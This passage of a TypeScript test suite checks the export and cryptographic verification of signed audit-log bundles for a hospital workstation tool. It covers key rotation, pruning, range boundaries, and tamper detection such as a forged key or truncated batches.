    expect((await cli(['audit', 'verify', '--bundle', bundle, '--key-id', 'abc'])).code).toBe(2);
    const nonEmpty = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', bundle]);
    expect(nonEmpty.code).toBe(2);
    expect(nonEmpty.err).toContain('not an empty folder');
    const out = join(work.path, 'never');
    expect((await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', '2025-02-30'])).code).toBe(2);
    expect((await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', '2025-03-03', '--to', '2025-03-02'])).code).toBe(2);
    expect((await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--action', 'auth.teleport'])).code).toBe(2);
    expect(existsSync(out)).toBe(false);
  });

  it('"0 events matched" is a result, not an error, and that bundle proves it', async () => {
    const out = join(work.path, 'nobody');
    mkdirSync(out);
    const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', '2025-03-02T00:00', '--to', '2025-03-02T23:59:59.999Z', '--user', 'nobody@hospital.example']);
    expect(run.code).toBe(0);
    expect(run.out).toContain('0 events matched the filter.');
    const verified = await verifyBundle(out, [lab.keyId]);
    expect(verified.code).toBe(0);
    expect(verified.report.selectedEvents).toBe(0);
    expect(verified.report.eventsChecked).toBeGreaterThan(0);
  });
});

describe('a bundle across a key rotation', () => {
  let lab: Lab;
  let work: ReturnType<typeof tempDir>;
  let oldKeyId: string;
  let newKeyId: string;
  let rotatedAt: number;

  beforeAll(() => {
    lab = openLab();
    oldKeyId = lab.keyId;
    writeDay(lab, 0);
    writeDay(lab, 1);
    // The rotation as enclave enroll rotate does it: the event naming the new key, sealed by the old key; then the new key takes over.
    const { publicKey, privateKey } = generateKeyPairSync('ed25519');
    newKeyId = keyIdOf(publicKey);
    const spki = publicKey.export({ type: 'spki', format: 'der' });
    rotatedAt = START + 2 * DAY - 2 * 3_600_000;
    lab.setTime(rotatedAt);
    lab.audit.record({
      action: 'audit.key_rotate',
      outcome: 'success',
      user: { name: 'it-admin' },
      detail: { old_key_id: oldKeyId, new_key_id: newKeyId, new_public_key: spki.toString('base64'), algorithm: 'Ed25519' },
    });
    lab.store.transaction((db) => {
      while (sealNextBatch(db, { ...lab.seal, signingKeyId: oldKeyId })) {
        // all waiting events, the rotation included, signed by the old key
      }
      db.prepare('UPDATE audit_signing_keys SET retired_at = ? WHERE key_id = ?').run(rotatedAt, oldKeyId);
      db.prepare('INSERT INTO audit_signing_keys (key_id, algorithm, public_key, private_key, created_at) VALUES (?, ?, ?, ?, ?)').run(
        newKeyId,
        'Ed25519',
        spki,
        privateKey.export({ type: 'pkcs8', format: 'der' }),
        rotatedAt,
      );
      db.prepare('UPDATE audit_signing_keys SET replaced_by = ? WHERE key_id = ?').run(newKeyId, oldKeyId);
    });
    writeDay(lab, 2);
    writeDay(lab, 3);
    work = tempDir('enclave-bundle-rot-');
  });
  afterAll(() => {
    lab?.remove();
    work?.remove();
  });

  it('verifies with only the old key id: the old key vouched for the new one', async () => {
    const out = join(work.path, 'all');
    const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--user', ALICE]);
    expect(run.code, run.err).toBe(0);
    const keys = JSON.parse(readFileSync(join(out, 'keys.json'), 'utf8')) as { keys: { key_id: string; retired: string | null; replaced_by: string | null }[] };
    expect(keys.keys).toEqual([
      expect.objectContaining({ key_id: oldKeyId, retired: new Date(rotatedAt).toISOString(), replaced_by: newKeyId }),
      expect.objectContaining({ key_id: newKeyId, retired: null, replaced_by: null }),
    ]);
    const { code, report } = await verifyBundle(out, [oldKeyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
    expect(report.trustedKeyIds).toEqual([oldKeyId, newKeyId]);
    // From enrolment: no anchor, the first manifest is the enrolment one.
    expect((JSON.parse(readFileSync(join(out, 'bundle.json'), 'utf8')) as Header).anchor.batch_seq).toBeNull();
  });

  it('a range starting just after the rotation reaches back to the batch that announced the new key', async () => {
    const out = join(work.path, 'after');
    const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', new Date(rotatedAt + 1).toISOString(), '--to', '2025-03-03']);
    expect(run.code, run.err).toBe(0);
    const manifests = readLines(join(out, 'manifests.jsonl')).map((l) => JSON.parse(l) as { key_id: string; start: { reason: string } | null });
    expect(manifests.slice(0, 2).map((m) => m.key_id)).toEqual([oldKeyId, oldKeyId]);
    expect(manifests[2]).toMatchObject({ key_id: newKeyId, start: { reason: 'key_rotation' } });
    const { code, report } = await verifyBundle(out, [oldKeyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
  });

  it('fails with a clear message when only an unrelated key id is given', async () => {
    const out = join(work.path, 'unrelated');
    expect((await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out])).code).toBe(0);
    const other = keyIdOf(generateKeyPairSync('ed25519').publicKey);
    const text = await cli(['audit', 'verify', '--bundle', out, '--key-id', other]);
    expect(text.code).toBe(1);
    expect(text.out).toContain(`first fault: batch 1 wrong key (manifests.jsonl line 1) — batch 1 is signed by key ${oldKeyId}, which is not an expected key id`);
    expect(text.out).toContain('audit bundle NOT verified');
  });

  it("a range that ends right after the rotation is closed by the new key's first manifest, which the old key vouched for", async () => {
    const out = join(work.path, 'until-rotation');
    const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', '2025-03-02', '--to', new Date(rotatedAt + 3_600_000).toISOString()]);
    expect(run.code, run.err).toBe(0);
    const manifests = readLines(join(out, 'manifests.jsonl')).map((l) => JSON.parse(l) as { batch_seq: number; key_id: string; start: { reason: string } | null });
    // The last covered batch holds the audit.key_rotate event; the closing one is the new key's first.
    expect(manifests.at(-2)).toMatchObject({ key_id: oldKeyId });
    expect(manifests.at(-1)).toMatchObject({ key_id: newKeyId, start: { reason: 'key_rotation' } });
    expect((JSON.parse(readFileSync(join(out, 'bundle.json'), 'utf8')) as Header).closing_batch_seq).toBe(manifests.at(-1)!.batch_seq);
    const { code, report } = await verifyBundle(out, [oldKeyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
    expect(report.trustedKeyIds).toEqual([oldKeyId, newKeyId]);
    expect(report.provenRange).toEqual({ from: '2025-03-02T00:00:00.000Z', to: new Date(rotatedAt + 3_600_000).toISOString(), endsAtExport: false });
  });

  it("a range with nothing in it, between the rotation and the new key's first batch, covers the batch that names the new key", async () => {
    const out = join(work.path, 'between');
    const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', new Date(rotatedAt + 1).toISOString(), '--to', new Date(rotatedAt + 3_600_000).toISOString()]);
    expect(run.code, run.err).toBe(0);
    const manifests = readLines(join(out, 'manifests.jsonl')).map((l) => JSON.parse(l) as { key_id: string; start: { reason: string } | null; kind: string });
    expect(manifests.map((m) => m.key_id)).toEqual([oldKeyId, oldKeyId, newKeyId]);
    expect(manifests[2]).toMatchObject({ start: { reason: 'key_rotation' } });
    const { code, report } = await verifyBundle(out, [oldKeyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
    expect(report.selectedEvents).toBe(0);
    expect(report.eventsChecked).toBe(1);
  });

  it('a forged rotation (a key_rotate event that keys.json contradicts) does not extend trust', async () => {
    const out = join(work.path, 'forged');
    expect((await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out])).code).toBe(0);
    const keysFile = join(out, 'keys.json');
    const keys = JSON.parse(readFileSync(keysFile, 'utf8')) as { keys: { key_id: string; public_key_pem: string }[] };
    const impostor = generateKeyPairSync('ed25519').publicKey;
    keys.keys[1]!.public_key_pem = impostor.export({ type: 'spki', format: 'pem' }).toString();
    writeFileSync(keysFile, JSON.stringify(keys));
    const { code, report } = await verifyBundle(out, [oldKeyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'wrong_key', file: 'keys.json' });
    expect(report.trustedKeyIds).toEqual([oldKeyId]);
  });
});

describe('a bundle after local pruning', () => {
  it('covers only what the workstation still keeps, says so, and verifies from the anchor frontier', async () => {
    const lab = openLab();
    const work = tempDir('enclave-bundle-pruned-');
    try {
      for (let day = 0; day < 3; day++) writeDay(lab, day);
      const pruned = lab.store.transaction((db) => pruneSealedEvents(db, 4));
      expect(pruned).not.toBeNull();
      const out = join(work.path, 'b');
      const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out]);
      expect(run.code, run.err).toBe(0);
      expect(run.out).toContain(`Note: events up to ${pruned!.throughSeq} were removed from this workstation`);
      const header = JSON.parse(readFileSync(join(out, 'bundle.json'), 'utf8')) as Header & { anchor: { frontier: { size: number } } };
      expect(header.anchor.frontier.size).toBe(pruned!.throughSeq);
      expect(header.coverage.first_seq).toBe(pruned!.throughSeq + 1);
      const { code, report } = await verifyBundle(out, [lab.keyId]);
      expect(report.firstFault).toBeNull();
      expect(code).toBe(0);
    } finally {
      lab.remove();
      work.remove();
    }
  });
});

describe('the end of the range', () => {
  let lab: Lab;
  let work: ReturnType<typeof tempDir>;
  const who = { user: { name: 'compliance@hospital.example', roles: ['compliance' as const] }, exportedBy: 'compliance@hospital.example' };
  const iso = (ms: number) => new Date(ms).toISOString();

  beforeAll(() => {
    lab = openLab();
    for (let day = 0; day < 3; day++) writeDay(lab, day);
    work = tempDir('enclave-bundle-end-');
  });
  afterAll(() => {
    lab?.remove();
    work?.remove();
  });

  it('an export without `to` seals what waited and then the heartbeat that closes the range at the export', async () => {
    const exportedAt = START + 3 * DAY + 2 * 3_600_000;
    lab.setTime(exportedAt - 60_000);
    lab.audit.record({ action: 'auth.login', outcome: 'success', user: { name: ALICE } });
    lab.setTime(exportedAt);
    const out = join(work.path, 'open-ended');
    const result = exportAuditedBundle(lab.audit, { from: Date.parse('2025-03-02T00:00:00.000Z'), user: ALICE }, out, who, lab.now, lab.seal);
    // The waiting event's batch, then the heartbeat.
    expect(result.sealedBatches).toBe(2);
    const newest = lab.store.writer.prepare('SELECT batch_seq, kind, created_at FROM audit_batches ORDER BY batch_seq DESC LIMIT 1').get() as { batch_seq: number; kind: string; created_at: number };
    expect(newest).toEqual({ batch_seq: result.closingBatchSeq, kind: 'heartbeat', created_at: exportedAt });
    const header = JSON.parse(readFileSync(join(out, 'bundle.json'), 'utf8')) as Header;
    expect(header.closing_batch_seq).toBe(result.closingBatchSeq);
    expect(header.coverage.last_batch_seq).toBe(result.closingBatchSeq - 1);
    expect(JSON.parse(readLines(join(out, 'manifests.jsonl')).at(-1)!)).toMatchObject({ batch_seq: result.closingBatchSeq, kind: 'heartbeat', created: iso(exportedAt) });
    // The login that waited is covered and selected; the heartbeat closes the range just after it.
    expect(expectedSelection(lab, { from: Date.parse('2025-03-02T00:00:00.000Z'), user: ALICE }).at(-1)!['@timestamp']).toBe(iso(exportedAt - 60_000));
    expect(header.selection.count).toBe(result.selectedEvents);
    expect(result.provenRange).toEqual({ from: '2025-03-02T00:00:00.000Z', to: iso(exportedAt - 1), endsAtExport: true });

    const { code, report } = await verifyBundle(out, [lab.keyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
    expect(report.provenRange).toEqual(result.provenRange);
    expect(report.closingBatchSeq).toBe(result.closingBatchSeq);
    const text = await cli(['audit', 'verify', '--bundle', out, '--key-id', lab.keyId]);
    expect(text.out).toContain(`complete from 2025-03-02T00:00:00.000Z to ${iso(exportedAt - 1)} (the export), closed by signed batch ${result.closingBatchSeq}`);
    // The export's own audit record comes after the closing heartbeat: not in the bundle, and not claimed by it.
    const exportEvent = lab.store.writer.prepare("SELECT seq, record FROM audit_events WHERE action = 'audit.export' ORDER BY seq DESC LIMIT 1").get() as { seq: number; record: string };
    expect(exportEvent.seq).toBe(header.coverage.last_seq + 1);
    expect((JSON.parse(exportEvent.record) as AuditRecord).enclave.detail).toMatchObject({ closing_batch: result.closingBatchSeq, complete_to: iso(exportedAt - 1) });

    // Cut off the end (the batch holding the waiting login), its manifest made the closing one: without a `to`, only a heartbeat closes the range.
    const copy = join(work.path, 'open-ended-cut');
    cpSync(out, copy, { recursive: true });
    const cut = dropTrailingBatches(copy, 1, 'first dropped');
    expect(cut.firstDropped).toMatchObject({ kind: 'events', event_count: 1 });
    const truncated = await verifyBundle(copy, [lab.keyId]);
    expect(truncated.code).toBe(1);
    expect(truncated.report.firstFault).toMatchObject({ problem: 'selection_mismatch', batchSeq: cut.firstDropped.batch_seq, file: 'manifests.jsonl' });
    expect(truncated.report.firstFault!.detail).toContain(`the bundle does not prove its range is complete after ${cut.newestKeptEvent}`);
    expect(truncated.report.firstFault!.detail).toContain('a range without an end takes in every event up to the export');
    expect(truncated.report.faultCount).toBe(1);
  });

  it('a `to` after the export is left out: the range ends at the export', async () => {
    const exportedAt = START + 3 * DAY + 4 * 3_600_000;
    lab.setTime(exportedAt);
    const out = join(work.path, 'until-tomorrow');
    const result = exportAuditedBundle(lab.audit, { from: Date.parse('2025-03-03T00:00:00.000Z'), to: exportedAt + DAY }, out, who, lab.now, lab.seal);
    expect(result.filter).toEqual({ from: Date.parse('2025-03-03T00:00:00.000Z') });
    expect((JSON.parse(readFileSync(join(out, 'bundle.json'), 'utf8')) as Header).filter).toEqual({ from: Date.parse('2025-03-03T00:00:00.000Z') });
    expect(result.provenRange).toEqual({ from: '2025-03-03T00:00:00.000Z', to: iso(exportedAt - 1), endsAtExport: true });
    const { code, report } = await verifyBundle(out, [lab.keyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
    expect(report.provenRange).toEqual(result.provenRange);
    // A range that starts after now holds nothing yet.
    expect(() => exportAuditedBundle(lab.audit, { from: exportedAt + DAY }, join(work.path, 'future'), who, lab.now, lab.seal)).toThrow(/after now/);
    expect(existsSync(join(work.path, 'future'))).toBe(false);
  });

  it('a range with nothing in it is proven empty by the anchor before it and the batch after it', async () => {
    lab.setTime(START + 3 * DAY + 6 * 3_600_000);
    // Day 1 (2 March): events 08:00–13:30, the heartbeat at 23:00. Nothing between 14:00 and 20:00.
    const filter = { from: Date.parse('2025-03-02T14:00:00.000Z'), to: Date.parse('2025-03-02T20:00:00.000Z') };
    const out = join(work.path, 'quiet-afternoon');
    const result = exportAuditedBundle(lab.audit, filter, out, who, lab.now, lab.seal);
    // (It sealed the previous export's audit record, which waited; no heartbeat was needed: the evening one closes the range.)
    expect(result).toMatchObject({ selectedEvents: 0, coveredEvents: 0, batches: 0, sealedBatches: 1, coverage: null });
    const manifests = readLines(join(out, 'manifests.jsonl')).map((l) => JSON.parse(l) as { batch_seq: number; kind: string; newest: string | null; created: string });
    expect(manifests).toHaveLength(2);
    expect(manifests[0]).toMatchObject({ kind: 'events', newest: '2025-03-02T13:30:00.000Z' });
    expect(manifests[1]).toMatchObject({ batch_seq: manifests[0]!.batch_seq + 1, kind: 'heartbeat', created: '2025-03-02T23:00:00.000Z' });
    expect(readLines(join(out, 'events.jsonl'))).toEqual([]);
    const { code, report } = await verifyBundle(out, [lab.keyId]);
    expect(report.firstFault).toBeNull();
    expect(code).toBe(0);
    expect(report.provenRange).toEqual({ from: '2025-03-02T14:00:00.000Z', to: '2025-03-02T20:00:00.000Z', endsAtExport: false });

    // Stretched at either end, the range takes in the anchor's events or the closing heartbeat: not proven.
    for (const [stretch, fault] of [
      [{ from: Date.parse('2025-03-02T12:00:00.000Z') }, 'complete from its start: the anchor'],
      [{ to: Date.parse('2025-03-02T23:30:00.000Z') }, 'heartbeat sealed at 2025-03-02T23:00:00.000Z, inside the range'],
    ] as const) {
      const copy = join(work.path, `quiet-${randomBytes(4).toString('hex')}`);
      cpSync(out, copy, { recursive: true });
      const edited = JSON.parse(readFileSync(join(copy, 'bundle.json'), 'utf8')) as Header;
      edited.filter = { ...edited.filter, ...stretch };
      writeFileSync(join(copy, 'bundle.json'), JSON.stringify(edited, null, 2));
      const stretched = await verifyBundle(copy, [lab.keyId]);
      expect(stretched.code).toBe(1);
      expect(stretched.report.firstFault!.detail).toContain(fault);
    }
  });
});

describe('exportAuditBundle without seal options', () => {
  it('closes the range with a heartbeat under the identity the newest batch names', async () => {
    const lab = openLab();
    const work = tempDir('enclave-bundle-plain-');
    try {
      writeDay(lab, 0);
      const exportedAt = START + DAY;
      const out = join(work.path, 'b');
      const result = lab.store.transaction((db) => exportAuditBundle(db, {}, out, { exportedBy: 'bench', now: exportedAt }));
      const closing = JSON.parse(readLines(join(out, 'manifests.jsonl')).at(-1)!) as { batch_seq: number; kind: string; created: string; origin: { institution: string; host_id: string } };
      expect(closing).toMatchObject({
        batch_seq: result.closingBatchSeq,
        kind: 'heartbeat',
        created: new Date(exportedAt).toISOString(),
        origin: { institution: 'St Example Hospital', host_id: lab.hostId },
      });
      const { code, report } = await verifyBundle(out, [lab.keyId]);
      expect(report.firstFault).toBeNull();
      expect(code).toBe(0);
      expect(report.provenRange).toEqual({ from: null, to: new Date(exportedAt - 1).toISOString(), endsAtExport: true });
    } finally {
      lab.remove();
      work.remove();
    }
  });
});

describe('a range wholly pruned from the workstation', () => {
  it('is refused: the bundle could not prove anything about it', async () => {
    const lab = openLab();
    const work = tempDir('enclave-bundle-gone-');
    try {
      for (let day = 0; day < 3; day++) writeDay(lab, day);
      expect(lab.store.transaction((db) => pruneSealedEvents(db, 4))).not.toBeNull();
      const out = join(work.path, 'b');
      const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', '2025-03-01', '--to', '2025-03-01']);
      expect(run.code).toBe(1);
      expect(run.err).toContain('removed from this workstation after the SIEM confirmed them');
      expect(existsSync(out)).toBe(false);
    } finally {
      lab.remove();
      work.remove();
    }
  });
});
